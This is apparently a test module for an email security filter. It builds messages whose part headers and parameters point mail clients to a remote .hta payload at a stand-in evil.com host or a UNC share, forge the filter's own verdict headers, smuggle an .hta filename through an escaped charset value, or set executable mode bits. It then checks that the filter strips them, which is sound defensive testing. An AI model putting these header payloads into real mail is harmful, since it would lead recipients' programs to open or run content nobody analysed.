/** Fields and parameters on a part that make a program open, save or run something else than what was analysed. */
import { type MailCase, mailAttack } from './attack-class.ts';
import { fieldsOthersFind, parametersOthersFind } from './header-parsers.ts';
import { ORDINARY_PARTS } from './ordinary-parts.ts';
import { judgeHeaders } from './root-headers.ts';

const URL = 'https://payload.evil.com/run.hta';
/** Whole fields that have no business on a part. */
const FIELDS = [
  `X-Mozilla-External-Attachment-URL: ${URL}`,
  'X-Mozilla-Altered: AttachmentDetached; date="x"',
  `X-Mozilla-Cloud-Part: cloudFile; url=${URL}; name=a.txt`,
  'X-Mozilla-PictureHash: 1',
  'X-Airlock-Outcome: delivered; kept=9',
  'X-Airlock-Run : forged',
  `Content-Base: ${URL}`,
  `Content-Location: ${URL}`,
  `Content-Location: \\\\evil.com\\share\\a.png`,
  `Content-Description: ${URL}`,
  `Content-ID: <${URL}>`,
  'Content-ID: <payload-evil.com/run.hta>',
  `X-Apple-Base-Url: ${URL}`,
  'X-Apple-Mail-Remote-Attachments: YES',
  `X-MS-Attachment-Url: ${URL}`,
  `Link: <${URL}>; rel=preload`,
  `Content-Alternative: ${URL}`,
  'Content-Length: 3',
  'From: Boss <boss@recipient.example>',
  'Subject: Another one',
  'X-Unix-Mode: 0755',
  'X-Anything: at all',
  `X-Url: ${URL}`,
  `Content-Disposition(x): attachment; filename=a.hta`,
  'Content-Features: x',
  `Content-Script-Type: text/javascript`,
];
/** Parameters that a program acts on. */
const PARAMETERS = [
  `url="${URL}"`,
  `x-url=${URL}`,
  'x-mac-creator=54564F44',
  'x-mac-type=4150504C',
  'x-unix-mode=0755',
  'access-type=URL',
  `x-mozilla-cloud-part="cloudFile; url=${URL}"`,
  `x-apple-part-url="${URL}"`,
  'x-mac-hide-extension=yes',
  'x-mac-filename="a.txt"',
  'charset="utf-8\\"; name=\\"a.hta"',
  `site="evil.com"; directory="/"`,
  "filename*=utf-8''notes%2Etxt",
  `server="${URL}"`,
];
const NUL_FORMS = ['', ' ', '\t', '(c)', '\0'];

interface Shape {
  readonly id: string;
  readonly type: string;
  readonly disposition: string;
  readonly body: string;
}
const SHAPES: readonly Shape[] = [
  { id: 'body', type: 'text/plain; charset=utf-8', disposition: 'inline', body: 'Hello.' },
  {
    id: 'text file',
    type: 'text/plain; name="notes.txt"',
    disposition: 'attachment; filename="notes.txt"',
    body: 'Notes.',
  },
  {
    id: 'multipart',
    type: 'multipart/alternative; boundary="i"',
    disposition: 'inline',
    body: '--i\r\nContent-Type: text/plain\r\n\r\nIn.\r\n--i--',
  },
  {
    id: 'message',
    type: 'message/rfc822',
    disposition: 'inline',
    body: 'From: a@b.example\r\nSubject: s\r\nDate: Fri, 20 Nov 2026 12:00:00 +0000\r\nContent-Type: text/plain\r\n\r\nInner.',
  },
];

function mailWith(part: readonly string[], body: string, isNested: boolean): string {
  const mixed = ['--b', 'Content-Type: text/plain', '', 'See.', '--b', ...part, '', body, '--b--', ''];
  const head = [
    'From: Ana <ana@sender.example>',
    'To: bob@recipient.example',
    'Subject: Hello',
    'Date: Fri, 20 Nov 2026 12:00:00 +0000',
  ];
  const message = [...head, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b"', '', ...mixed].join(
    '\r\n',
  );
  if (!isNested) return message;
  const outer = ['--o', 'Content-Type: message/rfc822', '', message, '--o--', ''];
  return [...head, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="o"', '', ...outer].join('\r\n');
}

function* cases(): Iterable<MailCase> {
  for (const { id, type, disposition, body } of SHAPES)
    for (const isNested of [false, true]) {
      const place = `${id}${isNested ? ' inside a message' : ''}`;
      const own = [`Content-Type: ${type}`, `Content-Disposition: ${disposition}`];
      for (const field of FIELDS) {
        yield { id: `${place}: ${field}`, email: mailWith([...own, field], body, isNested) };
        yield { id: `${place}: first, ${field}`, email: mailWith([field, ...own], body, isNested) };
      }
      for (const parameter of PARAMETERS) {
        yield {
          id: `${place}: type ${parameter}`,
          email: mailWith([`${own[0]};\r\n ${parameter}`, own[1] ?? ''], body, isNested),
        };
        yield {
          id: `${place}: disposition ${parameter}`,
          email: mailWith([own[0] ?? '', `${own[1]}; ${parameter}`], body, isNested),
        };
      }
      for (const form of NUL_FORMS)
        yield {
          id: `${place}: spelled ${JSON.stringify(form)}`,
          email: mailWith([...own, `X-Mozilla-External-Attachment-URL${form}: ${URL}`], body, isNested),
        };
    }
}

/** What a part may be said to be. Written down here once more, so that a slip in the airlock's own list is seen. */
const ALLOWED_FIELDS =
  /^(?:content-(?:type|transfer-encoding|disposition|id|description|language|md5|location|class)|mime-version|x-attachment-id)$/;
const ALLOWED_PARAMETERS =
  /^(?:charset|boundary|name|filename|format|delsp|type|start|start-info|report-type|protocol|micalg|method|size|(?:creation|modification|read)-date|smime-type|reply-type|component|header|protected-headers|hp|x-unix-mode|x-apple-part-url|x-mac-(?:type|creator))$/;
/** Fields of the message inside, which emailjs lists as those of a part. */
const OF_A_MESSAGE = /^(?:from|to|subject|date)$/;

export const partHeaders = mailAttack({
  name: 'part-headers',
  title: 'fields and parameters of a part that make a program open what nobody analysed',
  cases,
  async judge({ id }, delivered) {
    const wrong = await judgeHeaders(delivered);
    if (wrong !== null) return wrong;
    const isMessage = id.startsWith('message') || id.includes('inside a message');
    const fields = (await fieldsOthersFind(delivered.message)).filter(({ isPart }) => isPart);
    const other = fields.find(({ name }) => !ALLOWED_FIELDS.test(name) && !(isMessage && OF_A_MESSAGE.test(name)));
    if (other !== undefined) return `${other.parser} finds ${other.name} on a part`;
    const odd = parametersOthersFind(delivered.message).find(({ name }) => !ALLOWED_PARAMETERS.test(name));
    if (odd !== undefined) return `a part has the parameter ${odd.name}`;
    return /x-unix-mode=0?[0-7]*[1357]|x-mac-(?:type|creator)=[^0]/i.test(
      Buffer.from(delivered.message).toString('latin1'),
    )
      ? 'a part may be executed'
      : null;
  },
  ordinary: () => ORDINARY_PARTS,
  judgeOrdinary: ({ email }, { message }) => {
    const rest = Buffer.from(message)
      .toString('latin1')
      .replace(/^(?:X-Airlock-[^\r\n]*\r\n)+/, '');
    return rest === email ? null : 'it is not the same but for our own fields';
  },
});
